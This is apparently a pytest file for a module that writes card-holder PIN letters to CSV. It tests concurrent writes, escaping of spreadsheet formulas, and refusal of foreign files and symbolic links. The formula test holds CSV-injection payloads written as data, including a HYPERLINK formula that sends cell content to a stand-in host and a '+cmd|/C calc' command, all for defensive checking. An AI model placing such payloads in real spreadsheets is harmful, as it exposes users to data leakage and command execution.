"""Letters: every one is in the file, once, as text; and the file is its owner's, of its own kind, in its own place."""

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from apdu.errors import InputError
from apdu.identity import CardId
from personalization.letters import Letters
from personalization.one import Letter

ROOT = Path(__file__).resolve().parents[2]
WRITES = """
import sys
from pathlib import Path
from apdu.identity import CardId
from personalization.letters import Letters
from personalization.one import Letter
letters = Letters(Path(sys.argv[1]))
for serial in range(20):
    letters.write(Letter(CardId.of(int(sys.argv[2]), serial), "Aoi", "1234", "12345678"))
"""


def letter(holder: str) -> Letter:
    return Letter(CardId.of(1, 7), holder, "0123", "12345678")


def rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def test_two_processes_write_into_one_file(tmp_path: Path) -> None:
    path = tmp_path / "letters.csv"
    line = [sys.executable, "-c", WRITES, str(path)]
    writers = [subprocess.Popen([*line, str(issuer)], cwd=ROOT) for issuer in (1, 2, 3)]
    assert [writer.wait(60) for writer in writers] == [0, 0, 0]
    head, *written = rows(path)
    assert head == ["card", "holder", "pin", "resetting_code"]
    assert sorted(row[0] for row in written) == sorted(CardId.of(i, n).text for i in (1, 2, 3) for n in range(20))


@pytest.mark.parametrize("holder", ['=HYPERLINK("http://x/"&A1)', "+cmd|/C calc", "-1+1", "@SUM(1)", "\t=1", "\r=1"])
def test_a_spreadsheet_computes_nothing_in_it(tmp_path: Path, holder: str) -> None:
    path = tmp_path / "letters.csv"
    Letters(path).write(letter(holder))
    assert rows(path)[1][1] == f"'{holder}"


@pytest.mark.parametrize("holder", ["Aoi", 'Bo "the" tan', "a, b", "3=1+2", "'quoted'"])
def test_a_name_is_written_as_it_is(tmp_path: Path, holder: str) -> None:
    path = tmp_path / "letters.csv"
    Letters(path).write(letter(holder))
    assert rows(path)[1][1] == holder


def test_pins_go_into_no_file_of_another_kind(tmp_path: Path) -> None:
    path = tmp_path / "thesis.txt"
    path.write_text("precious")
    with pytest.raises(InputError, match=r"thesis\.txt is there already, and is not a file of letters"):
        Letters(path)
    assert path.read_text() == "precious"


@pytest.mark.skipif(os.name != "posix", reason="links need a privilege on Windows")
def test_pins_go_nowhere_else_by_a_link(tmp_path: Path) -> None:
    (tmp_path / "letters.csv").symlink_to("victim")
    with pytest.raises(InputError, match="is a symbolic link"):
        Letters(tmp_path / "letters.csv")
    letters = Letters(tmp_path / "later.csv")
    (tmp_path / "later.csv").symlink_to("victim")
    with pytest.raises(InputError, match="is a symbolic link"):
        letters.write(letter("Aoi"))
    assert not (tmp_path / "victim").exists()
